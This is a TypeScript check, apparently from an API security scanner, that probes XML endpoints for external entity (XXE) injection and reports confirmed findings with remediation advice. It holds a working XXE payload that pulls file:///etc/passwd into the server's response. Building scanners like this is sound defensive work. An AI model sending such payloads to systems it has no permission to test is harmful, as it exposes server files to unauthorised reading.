import type { Check } from '../../context.js';
import { randomToken } from '../../judges/similarity.js';
import { workingOps, poolFor } from '../util.js';
import { fileSignature } from './path-traversal.js';

export const xxeCheck: Check = {
  id: 'xxe',
  category: 'injection',
  title: 'XML external entities',
  priority: 70,
  async run(ctx) {
    const xmlOps = workingOps(ctx, (s) => /xml/i.test(s.op.body?.mediaType ?? ''));
    await poolFor(ctx, xmlOps, async (state) => {
      const root = String(state.op.body?.schema?.xml?.name ?? 'root');
      const fileDoc = `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY pal SYSTEM "file:///etc/passwd">]><${root}><name>&pal;</name><value>&pal;</value></${root}>`;
      const ex = await ctx.send(state, state.parts, state.as, {
        rawBody: fileDoc,
        contentType: state.op.body!.mediaType,
      });
      const sig = fileSignature(ex, state.baseline!);
      if (!sig) return;
      const marker = `pal${randomToken(10)}`;
      const internal = `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY m "${marker}">]><${root}><name>&m;</name><value>&m;</value></${root}>`;
      const ex2 = await ctx.send(state, state.parts, state.as, {
        rawBody: internal,
        contentType: state.op.body!.mediaType,
      });
      if (!ex2.response.body.includes(marker)) return;
      ctx.report({
        threat: { category: 'injection', subtype: 'xxe' },
        check: 'xxe',
        severity: 'critical',
        confidence: 0.95,
        operation: state.op.key,
        location: 'body',
        title: 'XML external entity (XXE) injection',
        description: `An external entity pointing at file:///etc/passwd was expanded into the response (signature "${sig}"); an internal entity was expanded as well. The XML parser resolves DOCTYPE entities.`,
        exchange: ex,
        focus: sig,
        remediation:
          'Disable DTD processing and external entity resolution in the XML parser (or accept JSON only).',
        cwe: 611,
      });
    });
  },
};
